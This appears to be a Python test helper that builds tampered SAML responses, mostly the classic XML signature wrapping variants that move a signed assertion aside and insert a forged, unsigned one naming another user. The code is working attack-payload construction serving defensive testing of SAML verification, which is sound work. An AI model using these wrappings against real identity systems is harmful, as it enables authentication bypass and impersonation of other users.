"""Tampered SAML responses, among them the classic signature wrapping attacks."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from lxml import etree
from onelogin.saml2.constants import OneLogin_Saml2_Constants as Named

NAMES = {"saml": Named.NS_SAML, "samlp": Named.NS_SAMLP, "ds": Named.NS_DS}


def wrapped(how: Callable[[Any, Any, Any], None]) -> Callable[[str], str]:
    """Keep the signed assertion somewhere, and put a forged one of another person in its place."""

    def tamper(xml: str) -> str:
        root = etree.fromstring(xml.encode())
        signed = root.find("saml:Assertion", NAMES)
        forged = etree.fromstring(etree.tostring(signed))
        forged.remove(forged.find("ds:Signature", NAMES))
        for value in forged.iter(f"{{{Named.NS_SAML}}}AttributeValue"):
            value.text = "boss@example.ac.uk"
        how(root, signed, forged)
        return str(etree.tostring(root, encoding="unicode"))

    return tamper


def forged_first(root: Any, signed: Any, forged: Any) -> None:
    forged.set("ID", "_forged")
    signed.addprevious(forged)


def forged_first_with_the_same_number(root: Any, signed: Any, forged: Any) -> None:
    signed.addprevious(forged)


def signed_inside_the_forged(root: Any, signed: Any, forged: Any) -> None:
    forged.set("ID", "_forged")
    signed.addprevious(forged)
    forged.append(signed)


def signed_inside_its_own_signature(root: Any, signed: Any, forged: Any) -> None:
    signature = signed.find("ds:Signature", NAMES)
    signed.addprevious(forged)
    forged.set("ID", "_forged")
    forged.insert(1, signature)
    root.remove(signed)
    etree.SubElement(signature, f"{{{Named.NS_DS}}}Object").append(signed)


def signed_in_the_extensions(root: Any, signed: Any, forged: Any) -> None:
    signed.addprevious(forged)
    extensions = etree.Element(f"{{{Named.NS_SAMLP}}}Extensions")
    root.find("saml:Issuer", NAMES).addnext(extensions)
    extensions.append(signed)


def changed(what: str, into: str) -> Callable[[str], str]:
    def tamper(xml: str) -> str:
        assert what in xml
        return xml.replace(what, into)

    return tamper


WRAPPINGS = (
    forged_first,
    forged_first_with_the_same_number,
    signed_inside_the_forged,
    signed_inside_its_own_signature,
    signed_in_the_extensions,
)
